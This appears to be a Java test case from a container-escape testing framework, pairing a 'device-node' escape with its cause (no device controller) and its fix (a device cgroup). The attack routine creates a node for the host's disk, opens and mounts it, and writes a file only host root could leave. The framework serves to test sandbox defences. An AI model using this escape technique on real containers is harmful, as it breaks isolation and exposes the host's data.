package nutshell.escapes;

import java.nio.file.Path;
import java.util.List;

/** Makes a node for the host's disk, and reads and mounts it from inside; see mknod(2). */
record DeviceNode() implements Escape {

    @Override
    public String word() {
        return "device-node";
    }

    @Override
    public String mistake() {
        return "no device controller: whoever may make a device node may open every device";
    }

    @Override
    public Defence fix() {
        return Defence.DEVICE_CGROUP;
    }

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        // Nothing is done, and that is the mistake.
    }

    @Override
    public void prepare(Stake stake) {
        stake.disk().renew(stake.nonce());
    }

    @Override
    public Path left(Stake stake) {
        return stake.disk().left();
    }

    @Override
    public List<Attack> ways(Scene scene) {
        Disk disk = scene.stake().disk();
        long offset = disk.offsetOf(scene.stake().nonce());
        return List.of(attacker -> {
            attacker.mknod("/tmp/disk", disk.major(), disk.minor());
            int device = attacker.note("the disk itself: file permissions are not asked")
                    .open("/tmp/disk");
            attacker.note("a search through the disk finds it here").tell(device, offset);
            attacker.close(device);
            attacker.mount("/tmp/disk", "/mnt", Disk.TYPE, null);
            attacker.note("a file that only the host's root could leave").create("/mnt/was-here");
        });
    }
}
